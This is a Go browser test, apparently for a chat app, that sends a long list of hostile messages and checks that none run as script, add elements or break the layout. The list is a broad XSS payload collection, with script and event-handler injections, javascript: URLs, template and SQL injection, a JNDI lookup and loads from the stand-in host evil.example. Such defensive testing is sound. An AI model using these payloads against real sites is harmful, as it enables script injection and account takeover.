package main

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// pwn is what the strings below try to run.
const pwn = "window.pwned=1"

// hostileTexts are things that people send to break a page.
func hostileTexts() []string {
	texts := []string{
		// Markup, in all the places where it is said to work.
		`<script>` + pwn + `</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>` + pwn + `</scr</script>ipt>`,
		`<img src=x onerror="` + pwn + `">`, `<img src=x onerror=&#119;indow.pwned=1>`, `<svg onload=` + pwn + `>`, `<svg><script>` + pwn + `</script></svg>`,
		`<svg><animate onbegin=` + pwn + ` attributeName=x dur=1s>`, `<body onload=` + pwn + `>`, `<iframe src="javascript:parent.pwned=1"></iframe>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<object data="javascript:` + pwn + `"></object>`, `<embed src="data:text/html,<script>` + pwn + `</script>">`,
		`<a href="javascript:` + pwn + `">click</a>`, `<a href=" &#14; javascript:` + pwn + `">click</a>`, `<form action="javascript:` + pwn + `"><button autofocus>x</button></form>`,
		`<details open ontoggle=` + pwn + `>`, `<video><source onerror="` + pwn + `"></video>`, `<input autofocus onfocus=` + pwn + `>`, `<style>*{display:none!important}</style>`,
		`<style>@import "//evil.example/x.css";</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=` + pwn + `>`, `<noscript><p title="</noscript><img src=x onerror=` + pwn + `>">`, `<template><script>` + pwn + `</script></template>`,
		`"><script>` + pwn + `</script>`, `'"--></style></script><script>` + pwn + `</script>`, `]]><script>` + pwn + `</script>`, `<!--<img src="--><img src=x onerror=` + pwn + `//">`,
		`&lt;script&gt;` + pwn + `&lt;/script&gt;`, `\u003cscript\u003e` + pwn + `\u003c/script\u003e`, `<b>bold</b> <marquee>moving</marquee>`,
		// Templates and formats.
		`${` + pwn + `}`, `{{` + pwn + `}}`, `{{constructor.constructor('` + pwn + `')()}}`, `<%= 7*7 %>`, `#{7*7}`, `%s%s%s%n`, `${jndi:ldap://evil.example/a}`, `';DROP TABLE messages;--`, `__proto__`, `constructor`, `{"__proto__":{"pwned":1}}`,
		// Addresses that are none of ours.
		`javascript:` + pwn, `JaVaScRiPt:` + pwn, `javascript://example.org/%0a` + pwn, `data:text/html,<script>` + pwn + `</script>`, `vbscript:msgbox(1)`, `file:///etc/passwd`, `blob:https://evil.example/x`,
		`[click](javascript:` + pwn + `)`, `https://"onmouseover="` + pwn, `https://example.org/"><img src=x onerror=` + pwn + `>`, `https://user:pass@evil.example:99999/`, `http://`, `https://[::1`, `http://\\evil.example`, `https://ex\u00adample.org/`,
		"`<img src=x onerror=" + pwn + ">`", "```<script>" + pwn + "</script>```", "@<img src=x onerror=" + pwn + ">", "@alice<script>" + pwn + "</script>",
		// Direction, marks, width.
		"\u202egnp.exe\u202c right", "\u202e never closed", "\u2066\u2067\u2068 isolates never closed", strings.Repeat("\u202e\u202d", 500) + "deep", "a\u200fb\u200ec\u061c", "שלום " + pwn + " עולם", "مرحبا (b) [c] {d}",
		"Z" + strings.Repeat("\u0336\u0341\u030d\u0352", 300) + "algo", strings.Repeat("e\u0301\u0308\u0323", 300), "\u200bzero\u200b\u200c\u200dwidth\ufeff",
		strings.Repeat("W", 4096), strings.Repeat("ﷺ﷽", 300), strings.Repeat("𒐫", 200), strings.Repeat("😀", 500), strings.Repeat("👨‍👩‍👧‍👦", 100), strings.Repeat("🇺", 301),
		strings.Repeat("x\n", 1500) + "x", "a" + strings.Repeat("\n", 2000) + "b", strings.Repeat("\t", 500) + "tabs", strings.Repeat("`", 4000) + "x", strings.Repeat("@", 2000) + "x", strings.Repeat("http://a.b ", 300) + "x",
		"\U000e0041\U000e0042 tags", "\u2028line\u2029separators", "ＦＵＬＬＷＩＤＴＨ ａｎｄ 𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "\ufdd0\uffff noncharacters", "ı İ ß ẞ ſ K", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag",
	}
	return texts
}

// hostile has somebody say everything that pages break on.
func hostile(t *testing.T, browser context.Context) {
	addr := install(t, memory, "BURROW_EDGE_RATE=0").start(t).addr
	mallory := signIn(t, addr, "mallory").dial(addr)
	p := openTab(t, browser, addr)
	p.signIn("alice")

	texts := hostileTexts()
	shown := 0
	plain := strings.NewReplacer("`", "", "\n", "")
	for i, text := range texts {
		mallory.send("", text)
		mallory.send("", fmt.Sprintf("after %d", i)) // the page still works, and shows the one before
		p.hears(fmt.Sprintf("after %d", i))
		got := p.messages()
		at := slices.Index(got, fmt.Sprintf("after %d", i))
		if at < 1 || strings.HasPrefix(got[at-1], "after ") {
			continue // the server has refused it
		}
		shown++
		if a, b := plain.Replace(strings.TrimSpace(text)), plain.Replace(got[at-1]); a != b {
			t.Errorf("sent %.80q, and the page shows %.80q", a, b)
		}
	}
	if shown < 60 {
		t.Errorf("the page has shown %d of %d texts, want 60 at least", shown, len(texts))
	}
	mallory.send("alice", "\u202e"+strings.Repeat("W", 4000))
	p.shows(hook("talk", user("mallory")) + " " + hook("last"))

	if look[bool](p, "window.pwned !== undefined || Object.prototype.pwned !== undefined") {
		t.Error("a message ran as a script")
	}
	strange := look[[]string](p, `[...document.querySelectorAll('[data-testid=messages] .content *')]
		.filter((e) => !e.matches('code, pre, span.at, mark.at, a[href^="http://"], a[href^="https://"]') || [...e.attributes].some((a) => !['href', 'target', 'rel', 'class'].includes(a.name)))
		.map((e) => e.outerHTML.slice(0, 120))`)
	if len(strange) > 0 {
		t.Errorf("messages made elements of their own: %q", strange)
	}
	if title := look[string](p, "document.title"); !strings.HasSuffix(title, "Burrow") {
		t.Errorf("the title is %q", title)
	}
	// Everything is where it belongs: nothing sideways, nothing over its neighbours,
	// nothing that fills the screen for long.
	for _, width := range []int64{1100, 320} {
		p.do(chromedp.EmulateViewport(width, 760))
		p.await("the page has that width", fmt.Sprintf("innerWidth === %d", width))
		p.fits()
		odd := look[[]string](p, `(() => {
			const log = document.querySelector('[data-testid=messages]').getBoundingClientRect();
			return [...document.querySelectorAll('[data-testid=message]')].filter((m) => {
				const box = m.getBoundingClientRect(), text = m.querySelector('.content').getBoundingClientRect();
				return box.height > 1200 || text.left < log.left || text.right > log.right + 1 || text.bottom > box.bottom + 1;
			}).map((m) => m.getBoundingClientRect().height + ' px: ' + m.textContent.slice(0, 60));
		})()`)
		if len(odd) > 0 {
			t.Errorf("at %d px these are not as they should be: %q", width, odd)
		}
		p.shot(fmt.Sprint(width))
	}
	p.quiet()
}
